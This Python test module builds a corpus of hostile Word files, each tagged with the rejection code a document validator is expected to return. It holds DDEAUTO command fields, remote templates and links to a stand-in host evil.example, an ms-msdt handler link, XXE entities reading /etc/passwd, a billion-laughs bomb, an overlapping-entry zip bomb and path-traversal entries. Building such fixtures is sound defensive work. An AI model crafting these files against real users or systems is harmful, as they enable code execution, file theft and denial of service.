"""Word files that are made to harm whoever opens, unpacks or reads them. All are refused before anything else."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from tests.printing.word import field, p, r, word
from tests.studio.corpus.editing import Change, Draft, archived
from tests.studio.corpus.labels import Hostile
from tests.wordfile.builders import contents

_FIELDS = (
    *('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDE Excel "Sheet1" R1C1', 'INCLUDETEXT "/etc/passwd"'),
    *(
        'INCLUDEPICTURE "http://evil.example/x.png" \\d',
        "LINK Excel.Sheet.12 c:\\\\x.xlsx R1C1",
        'IMPORT "c:\\\\x.png"',
    ),
    *("DATABASE \\d c:\\\\x.mdb", 'RD "c:\\\\x.docx"', "AUTOTEXT evil", "MACROBUTTON AutoOpen press", "EMBED Package"),
    *('ASK name "your password"', 'FILLIN "your password"', 'HYPERLINK "file:///c:/windows/system32/calc.exe"'),
    *('HYPERLINK "javascript:alert(1)"', 'HYPERLINK "\\\\\\\\evil.example\\\\share"', "PRINT 27"),
)
_HEAD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
_REST = (
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
_OUTSIDE = {
    "remote template": ("attachedTemplate", "http://evil.example/x.dotm", "word_file.forbidden_link"),
    "template on a share": ("attachedTemplate", "\\\\evil.example\\x.dotm", "word_file.forbidden_link"),
    "remote picture": ("image", "http://evil.example/track.png", "word_file.external"),
    "picture on a share": ("image", "file://evil.example/share/x.png", "word_file.external"),
    "remote object": ("oleObject", "http://evil.example/x.html!", "word_file.forbidden_link"),
    "remote header": ("header", "http://evil.example/header.xml", "word_file.external"),
    "remote frame": ("frame", "http://evil.example/", "word_file.forbidden_link"),
    "remote subdocument": ("subDocument", "http://evil.example/x.docx", "word_file.forbidden_link"),
    "list of a mail merge": ("mailMergeSource", "file:///c:/customers.xlsx", "word_file.forbidden_link"),
    "program as a link": ("hyperlink", "javascript:alert(1)", "word_file.external"),
    "file as a link": ("hyperlink", "file:///c:/windows/system32/calc.exe", "word_file.external"),
    "handler as a link": ("hyperlink", "ms-msdt:/id PCWDiagnostic", "word_file.external"),
}
_ELEMENTS = {
    "imported document": ('<w:altChunk r:id="x"/>', "word_file.forbidden_element"),
    "object": (
        '<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="x"/></w:object></w:r></w:p>',
        "word_file.embedded",
    ),
    "control": ('<w:p><w:r><w:control w:name="x" r:id="x"/></w:r></w:p>', "word_file.forbidden_element"),
    "subdocument": ('<w:p><w:subDoc r:id="x"/></w:p>', "word_file.forbidden_element"),
}


def _base() -> bytes:
    return word(p(r("{{ name }}")))


def _changed(*changes: Change) -> bytes:
    draft = Draft(_base())
    for change in changes:
        change(draft)
    return draft.saved()


def _with(name: str, content: bytes) -> bytes:
    """The file with another entry in its archive."""
    return archived({**contents(_base()), name: content})


def _outside(kind: str, target: str) -> bytes:
    return _changed(lambda draft: draft.relate(kind, target, "rEvil", "External"))


def _typed(content_type: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _changed(lambda draft: draft.replace("[Content_Types].xml", main, content_type))


def _document(xml: str) -> bytes:
    return archived({**contents(_base()), "word/document.xml": xml.encode()})


def _entities(declared: str, used: str) -> bytes:
    document = contents(_base())["word/document.xml"].decode()
    return _document(f"<!DOCTYPE w:document [{declared}]>{document.replace('{{ name }}', used)}")


def _laughs() -> bytes:
    grown = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _entities(f'<!ENTITY l0 "ha">{grown}', "&l9;")


def _zeros() -> bytes:
    return _with("word/media/zeros.png", b"\0" * (64 << 20))


def _zip(write: Callable[[zipfile.ZipFile], None]) -> bytes:
    stream = io.BytesIO(_base())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        write(archive)
    return stream.getvalue()


def _overlapping() -> bytes:
    """One compressed stream that many entries of the directory point to (after D. Fifield, A better zip bomb, 2019)."""
    whole = _zip(lambda archive: archive.writestr("word/media/a.png", b"\0" * 900_000))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        start = archive.start_dir
        entry = archive.getinfo("word/media/a.png")
    directory = whole[start : whole.rindex(b"PK\x05\x06")]
    record = directory[directory.rindex(b"PK\x01\x02") :]
    name = entry.filename.encode()
    copies = b"".join(_renamed(record, name, f"word/media/{number:05d}".encode()) for number in range(600))
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        *(2 * [directory.count(b"PK\x01\x02") + 600]),
        len(directory + copies),
        start,
        0,
    )
    return whole[:start] + directory + copies + end


def _renamed(record: bytes, old: bytes, new: bytes) -> bytes:
    head = bytearray(record[:46])
    struct.pack_into("<H", head, 28, len(new))
    return bytes(head) + new + record[46 + len(old) :]


def _hostile(name: str, code: str, make: Callable[[], bytes], by: str = "a hostile Word file") -> Hostile:
    return Hostile(name, by, make, frozenset(code.split("|")))


HOSTILE = (
    *(
        _hostile(
            f"field {code.split()[0]} {number}",
            "word_file.field",
            lambda code=code: word(p(field(code)), p(r("{{ name }}"))),
        )
        for number, code in enumerate(_FIELDS)
    ),
    _hostile(
        "field in pieces",
        "word_file.field",
        lambda: word(
            p(
                _HEAD,
                *(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EA", 'UTO cmd "/k"')),
                _REST,
            )
        ),
    ),
    _hostile("field in lower case", "word_file.field", lambda: word(p(field('ddeauto cmd "/k calc"')))),
    _hostile(
        "field in one element",
        "word_file.field",
        lambda: word(p('<w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>1</w:t></w:r></w:fldSimple>')),
    ),
    _hostile(
        "field within a field",
        "word_file.field",
        lambda: word(p(_HEAD, "<w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>", field("INCLUDETEXT x"), _REST)),
    ),
    *(
        _hostile(name, code, lambda kind=kind, target=target: _outside(kind, target))
        for name, (kind, target, code) in _OUTSIDE.items()
    ),
    *(_hostile(name, code, lambda xml=xml: word(xml, p(r("{{ name }}")))) for name, (xml, code) in _ELEMENTS.items()),
    _hostile("macros", "word_file.macro", lambda: _with("word/vbaProject.bin", b"x")),
    _hostile(
        "macros by their type",
        "word_file.macro",
        lambda: _typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    _hostile("ActiveX", "word_file.embedded", lambda: _with("word/activeX/activeX1.bin", b"x")),
    _hostile("embedded file", "word_file.embedded", lambda: _with("word/embeddings/evil.docm", b"x")),
    _hostile("billion laughs", "word_file.document_type", _laughs),
    _hostile(
        "entity from a file",
        "word_file.document_type",
        lambda: _entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    ),
    _hostile(
        "entity from the net",
        "word_file.document_type",
        lambda: _entities('<!ENTITY x SYSTEM "http://evil.example/">', "&x;"),
    ),
    _hostile(
        "parameter entity",
        "word_file.document_type",
        lambda: _entities('<!ENTITY % x SYSTEM "http://evil.example/"> %x;', "x"),
    ),
    _hostile(
        "deep elements",
        "word_file.beyond_xml|word_file.broken_xml",
        lambda: word("<w:sdt><w:sdtContent>" * 3000 + p("x") + "</w:sdtContent></w:sdt>" * 3000),
    ),
    _hostile(
        "a text of twelve megabytes",
        "word_file.beyond_xml|word_file.bomb|template.part_too_large",
        lambda: archived(contents(word(p(r("x" * (12 << 20)))))),
    ),
    _hostile("a name of a hundred thousand letters", "word_file.beyond_xml", lambda: word(f"<w:{'x' * 100_000}/>")),
    _hostile(
        "millions of tags",
        "word_file.too_many_tags|word_file.bomb|template.part_too_large",
        lambda: archived(contents(word("<w:p/>" * 9_000_000))),
    ),
    _hostile("zeros", "word_file.bomb", _zeros),
    _hostile("entries over each other", "word_file.unpacks_too_large|word_file.damaged|word_file.bomb", _overlapping),
    _hostile(
        "too many entries",
        "word_file.too_many_parts",
        lambda: archived({**contents(_base()), **{f"x/{n}.xml": b"" for n in range(1500)}}),
    ),
    _hostile("path above the root", "word_file.path", lambda: _with("../../etc/cron.d/evil", b"x")),
    _hostile("path of Windows", "word_file.path", lambda: _with("..\\..\\evil.exe", b"x")),
    _hostile("absolute path", "word_file.path", lambda: _with("/etc/passwd", b"x")),
    _hostile(
        "an entry twice",
        "word_file.part_twice",
        lambda: _zip(lambda archive: archive.writestr("WORD/document.xml", b"<x/>")),
    ),
    _hostile("cut off", "word_file.not_zip|word_file.damaged", lambda: _base()[:-200]),
    _hostile("no archive", "word_file.not_zip", lambda: b"MZ" + b"\0" * 1000),
    _hostile(
        "old or encrypted", "word_file.old_or_encrypted", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4096
    ),
    _hostile("an archive of something else", "word_file.not_word", lambda: archived({"a.txt": b"x"})),
    _hostile("nothing", "word_file.not_zip", lambda: b""),
)
